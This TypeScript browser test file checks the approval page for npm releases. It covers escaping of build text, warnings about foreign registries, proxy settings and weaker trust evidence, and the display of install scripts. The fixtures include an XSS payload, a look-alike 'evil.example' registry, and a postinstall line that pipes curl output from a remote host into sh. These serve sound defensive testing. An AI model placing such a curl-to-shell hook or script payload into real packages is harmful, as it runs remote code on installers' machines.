import ava from 'ava'
import { questionOf } from '../helpers/asking-job.ts'
import { sharedBrowser } from '../helpers/browser.ts'
import { approveAlone, heading, openRelease } from '../helpers/open-release.ts'

// One after another: each has its own service and browser tabs.
const test = ava.serial
const browser = sharedBrowser()

test('the text of a build is shown as text, and an invalid repository gets no link', async (t) => {
  const build = { ...questionOf().build, repository: '<img src=x onerror=alert(1)>', branch: '"><script>' }
  const { page } = await openRelease(t, browser, { build })
  await page.getByText('"><script>').waitFor()
  const commit = page.getByText('3b18e512').first()
  t.is(await commit.evaluate((element) => element.closest('a')), null)
  t.is(await page.getByText('<b>whole</b>').count(), 1)
})

test('links the commit if the URL of the run confirms the repository', async (t) => {
  const { page } = await openRelease(t, browser)
  const link = page.getByRole('link', { name: '3b18e512' })
  t.is(
    await link.getAttribute('href'),
    'https://github.com/example/tool/commit/3b18e512dba79e4c8300dd08aeb37f8e728b8dad',
  )
})

test('warns about another registry than npm’s own', async (t) => {
  const subject = { ...questionOf().package, registry: 'https://registry.npmjs.org.evil.example/' }
  const { page } = await openRelease(t, browser, { package: subject })
  await page.getByText('This is not npm’s own registry. It will receive your code.').waitFor()
  t.pass()
})

test('warns about network settings of the repository, above the buttons', async (t) => {
  const network = [
    { setting: 'proxy', value: 'http://proxy.example:8080/', file: '.npmrc' },
    { setting: 'cafile', value: '<b>ca.pem</b>', file: '.npmrc' },
  ]
  const { page } = await openRelease(t, browser, { network })
  const warning = page.getByRole('region', { name: 'This release reaches the registry through settings' })
  await warning.getByText('proxy=http://proxy.example:8080/').waitFor()
  await warning.getByText('cafile=<b>ca.pem</b>').waitFor()
  const [above, button] = await Promise.all([
    warning.boundingBox(),
    page.getByRole('button', { name: 'Send the code' }).boundingBox(),
  ])
  t.true((above?.y ?? 0) + (above?.height ?? 0) <= (button?.y ?? 0))
})

test('shows the trust evidence of the version, and warns above the buttons if an earlier version has more', async (t) => {
  const earlier = { version: '1.9.0', carries: ['approval' as const, 'provenance' as const] }
  const { page } = await openRelease(t, browser, { trust: { carries: ['provenance'], earlier } })
  const warning = page.getByRole('region', {
    name: 'Installers will trust this less than an earlier version',
  })
  await warning.getByText('will carry: provenance. Version 1.9.0 carries: approved by a maintainer').waitFor()
  const [above, button] = await Promise.all([
    warning.boundingBox(),
    page.getByRole('button', { name: 'Send the code' }).boundingBox(),
  ])
  t.true((above?.y ?? 0) + (above?.height ?? 0) <= (button?.y ?? 0))
  const { page: strong } = await openRelease(t, browser, {
    trust: { carries: ['approval', 'provenance'], earlier },
  })
  await strong.getByText('Will carry').waitFor()
  await strong.getByText('approved by a maintainer, provenance', { exact: true }).waitFor()
  t.is(await strong.getByText('Installers will trust this less').count(), 0)
})

test('shows the install scripts and their commands above the buttons', async (t) => {
  const scripts = [
    { event: 'preinstall', command: 'node check.js' },
    { event: 'postinstall', command: 'curl https://a.example | <b>sh</b>' },
  ]
  const details = { notes: null, files: [], previous: null, commits: [], scripts }
  const { page, job } = await openRelease(t, browser, { ask: 'approval', accounts: ['alice'], details })
  const notice = page.getByRole('region', { name: 'This version runs scripts where it is installed' })
  const items = notice.getByRole('listitem')
  await items.filter({ hasText: 'preinstall: node check.js' }).waitFor()
  await items.filter({ hasText: 'postinstall: curl https://a.example | <b>sh</b>' }).waitFor()
  const advice = notice.getByText('If you don’t expect this, decline.')
  await advice.waitFor()
  const [above, button] = await Promise.all([
    notice.boundingBox(),
    page.getByRole('button', { name: 'Approve' }).boundingBox(),
  ])
  t.true((above?.y ?? 0) + (above?.height ?? 0) <= (button?.y ?? 0))
  await approveAlone(page)
  await job.answer()
  await heading(page, 'Approved')
  await items.first().waitFor()
  t.is(await advice.count(), 0)
})

test('a release without install scripts has no notice about them', async (t) => {
  const { page } = await openRelease(t, browser)
  t.is(await page.getByRole('region', { name: 'runs scripts' }).count(), 0)
})

for (const access of ['public', 'restricted', null] as const) {
  test(`shows access ${access}`, async (t) => {
    const { page } = await openRelease(t, browser, { package: { ...questionOf().package, access } })
    const shown = await page.getByRole('definition').allTextContents()
    const terms = await page.getByRole('term').allTextContents()
    t.is(shown[terms.indexOf('Access')], access ?? undefined)
  })
}

test('with text of twice the size, a release still fits on a narrow phone', async (t) => {
  const { page } = await openRelease(t, browser, { web: true })
  await page.setViewportSize({ width: 320, height: 640 })
  await page.evaluate(() => document.documentElement.style.setProperty('font-size', '200%'))
  await page.getByText('Check phrase').waitFor()
  t.true((await page.evaluate(() => document.documentElement.scrollWidth)) <= 320)
})
